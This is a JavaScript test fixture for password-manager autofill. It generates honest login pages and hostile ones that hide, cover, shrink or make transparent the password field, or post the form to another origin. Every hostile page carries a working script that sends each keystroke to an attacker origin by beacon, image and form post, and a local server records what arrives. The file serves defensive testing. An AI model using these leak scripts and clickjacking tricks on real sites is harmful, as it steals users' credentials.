// Login pages that try to have a password filled where a person would not see it, or into a form
// that posts to another site, and honest pages that must still be filled. Every hostile page is at
// the login's own origin (the exact-origin rule cannot help) and leaks whatever is typed into it to
// `attacker` (another origin) the moment a field changes: by its form's post, by a beacon and by
// an image. The tests check that every hostile page is refused, every honest one filled, and that
// the attacker's server never hears anything.

const FORM = `<form id="login" method="post"><input name="user" autocomplete="username">
<input name="pass" type="password"><button>Sign in</button></form>`;
const BODY_STYLE = "<style>body{margin:0;font:16px sans-serif} form{padding:20px;display:flex;gap:8px}</style>";

/** Sends every change to `attacker`, and submits the form (which posts where the page says). */
const leak = (attacker) => `<script>
addEventListener("input", (event) => {
  const value = encodeURIComponent(event.target.value);
  navigator.sendBeacon(${JSON.stringify(attacker)} + "/leak/beacon", value);
  new Image().src = ${JSON.stringify(attacker)} + "/leak/image?v=" + value;
  setTimeout(() => event.target.form?.requestSubmit(), 0);
}, true);
</script>`;

/** A page around `body` ($ATTACKER is the attacker's origin); a hostile one leaks every change. */
const page = (attacker, body, hostile = true) =>
  `<!doctype html><meta charset="utf-8"><title>Sign in</title>${BODY_STYLE}${body.replaceAll("$ATTACKER", attacker)}${hostile ? leak(attacker) : ""}`;

/** @returns {{ name: string, html: string, filled: boolean, why?: RegExp }[]} */
export function hostileForms(attacker) {
  const cases = [
    // Honest pages: filled.
    { name: "honest", filled: true, body: FORM },
    { name: "honest-no-form", filled: true, body: '<div><input autocomplete="username"><input type="password"></div>' },
    { name: "honest-formaction-same-origin", filled: true, body: FORM.replace("<button>", '<button formaction="/session">') },
    // A floating label and a notched outline over the field (Material design), both letting clicks
    // through: they paint no background, so the field shows through them.
    { name: "honest-floating-label", filled: true, body: `<form style="position:relative"><input autocomplete="username">
      <span style="position:relative;display:inline-block"><input type="password" style="padding:12px">
      <label style="position:absolute;left:8px;top:10px;pointer-events:none;color:#666">Password</label>
      <fieldset style="position:absolute;inset:-5px 0 0;margin:0;border:1px solid #888;pointer-events:none"><legend style="font-size:10px">Password</legend></fieldset>
      </span><button>Sign in</button></form>` },
    // A field with no border or background of its own, drawn by its wrapper (common).
    { name: "honest-borderless-field", filled: true, body: `<form><input autocomplete="username">
      <span style="display:inline-block;border:1px solid #888;border-radius:4px;padding:4px"><input type="password" style="border:0;background:transparent;outline:none"></span>
      <button>Sign in</button></form>` },
    // A hidden decoy first, then the visible field: the visible one is filled, the decoy never.
    { name: "honest-after-hidden-decoy", filled: true, body: FORM.replace('<input name="pass"', '<input type="password" name="decoy" style="display:none"><input name="pass"') },

    // The tricks.
    { name: "formaction-elsewhere", why: /another site/, body: FORM.replace("<button>", '<button formaction="$ATTACKER/steal">') },
    { name: "action-elsewhere", why: /another site/, body: FORM.replace('<form id="login"', '<form id="login" action="$ATTACKER/steal"') },
    { name: "second-submit-elsewhere", why: /another site/, body: FORM.replace("</form>", '<input type="submit" value="Go" formaction="$ATTACKER/steal"></form>') },
    { name: "off-screen", why: /off-screen/, body: FORM.replace('type="password"', 'type="password" style="position:absolute;left:-10000px"') },
    { name: "below-the-fold", why: /off-screen/, body: FORM.replace('type="password"', 'type="password" style="position:absolute;top:5000px"') },
    { name: "clip-path", why: /clipped/, body: FORM.replace('type="password"', 'type="password" style="clip-path:inset(50%)"') },
    { name: "opaque-overlay", why: /covered/, body: `<div style="position:relative">${FORM}
      <div style="position:absolute;inset:0;background:#fff">Welcome!</div></div>` },
    { name: "tiny-4px", why: /too small/, body: FORM.replace('type="password"', 'type="password" style="width:4px;height:4px;padding:0;border:1px solid #000"') },
    { name: "tiny-8px", why: /too small/, body: FORM.replace('type="password"', 'type="password" style="width:8px;height:8px;padding:0;border:1px solid #000"') },
    { name: "transparent", why: /transparent|not rendered/, body: FORM.replace('type="password"', 'type="password" style="opacity:0"') },
    { name: "nearly-transparent", why: /transparent/, body: FORM.replace('type="password"', 'type="password" style="opacity:0.05"') },
    { name: "visibility-hidden", why: /visibility|not rendered/, body: FORM.replace('type="password"', 'type="password" style="visibility:hidden"') },

    // DOM-based clickjacking (2025): the field under another UI that lets clicks through, or made
    // invisible through an ancestor.
    { name: "overlay-lets-clicks-through", why: /covered/, body: `<div style="position:relative">${FORM}
      <div style="position:absolute;inset:0;background:#0a66c2;color:#fff;pointer-events:none !important">Accept cookies</div></div>` },
    { name: "inline-important-pointer-events", why: /covered/, body: `<div style="position:relative">${FORM}
      <div style="position:absolute;inset:0;background:#fff;pointer-events:none !important;z-index:9"></div></div>` },
    { name: "frame-of-another-site-over-field", why: /covered/, body: `<div style="position:relative">${FORM}
      <iframe src="$ATTACKER/ui" style="position:absolute;inset:0;width:100%;height:100%;border:0;pointer-events:none"></iframe></div>` },
    { name: "pseudo-element-cover", why: /covered/, body: `<style>.wrap{position:relative}.wrap::after{content:"";position:absolute;inset:0;background:#fff;pointer-events:none}</style>
      <div class="wrap">${FORM}</div>` },
    { name: "ancestor-opacity", why: /transparent|not rendered/, body: `<div style="opacity:0.01">${FORM}</div>` },
    { name: "ancestor-filter-opacity", why: /transparent/, body: `<div style="filter:opacity(0.02)">${FORM}</div>` },
    { name: "ancestor-scaled-to-zero", why: /too small/, body: `<div style="transform:scale(0)">${FORM}</div>` },
    { name: "ancestor-overflow-clip", why: /too small|off-screen/, body: `<div style="overflow:hidden;height:1px">${FORM}</div>` },
    { name: "ancestor-clip-path", why: /clipped/, body: `<div style="clip-path:circle(0)">${FORM}</div>` },
    { name: "ancestor-mask", why: /clipped/, body: `<div style="mask-image:linear-gradient(transparent,transparent)">${FORM}</div>` },
    { name: "transparent-field", why: /transparent field/, body: FORM.replace('type="password"', 'type="password" style="background:transparent;border:0;outline:none;color:transparent;caret-color:transparent"') },
    { name: "transparent-text-fill", why: /transparent field/, body: FORM.replace('type="password"', 'type="password" style="-webkit-text-fill-color:rgba(0,0,0,0)"') },
    { name: "page-opacity-on-html", why: /transparent|not rendered/, body: `<style>html{opacity:0.02}</style>${FORM}` },
    // The top layer (a popover the page shows over everything), letting clicks through.
    { name: "top-layer-popover-cover", why: /covered/, body: `${FORM}
      <div popover="manual" id="cover" style="inset:0;width:100vw;height:100vh;max-width:none;max-height:none;margin:0;border:0;background:#fff;pointer-events:none">Loading…</div>
      <script>document.getElementById("cover").showPopover()</script>` },
    // A same-origin frame: the top frame has no password field, and frames are never filled.
    { name: "same-origin-frame", why: /no password field/, body: '<iframe src="/framed-honest.html" style="width:600px;height:200px"></iframe>' },
  ];
  return cases.map(({ body, ...rest }) => ({ filled: false, ...rest, html: page(attacker, body, !rest.filled) }));
}

/** Extra pages the cases load (the frame's content). */
export function hostileFrames(attacker) {
  return { "/framed-honest.html": page(attacker, FORM, false) };
}

/** A server on another origin that records every leak and post it gets. */
export async function attackerServer() {
  const { createServer } = await import("node:http");
  const heard = [];
  const server = createServer((request, response) => {
    if (!request.url.startsWith("/ui")) heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "content-type": "text/html" });
    response.end('<body style="margin:0;background:#fafafa">Cookie settings <button>Accept</button></body>');
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    heard,
    close: () => new Promise((resolve) => server.close(resolve)),
  };
}
